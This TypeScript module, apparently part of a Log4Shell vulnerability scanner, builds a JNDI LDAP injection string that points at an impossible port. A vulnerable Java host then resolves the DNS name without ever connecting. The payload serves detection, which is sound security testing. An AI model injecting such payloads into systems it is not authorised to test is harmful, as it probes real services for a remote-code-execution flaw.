import { type LookupForm, type LookupTarget, urlOf } from '../form.ts'

/** Java resolves the name before it finds the port impossible: a proof by DNS that never connects. */
export const impossiblePort: LookupForm = {
  id: 'impossible-port',
  summary: 'a port that does not exist, so that the name is resolved and nothing connects',
  schemes: ['ldap'],
  firesOn: ['A', 'B', 'C'],
  seenIn: ['Burp Log4Shell scanner'],
  profile: null,
  needsZone: true,
  write: (target) => `\${jndi:${impossiblePortUrl(target)}}`,
  meaning: impossiblePortUrl,
}

function impossiblePortUrl(target: LookupTarget): string {
  return urlOf({ ...target, port: 99_999 })
}
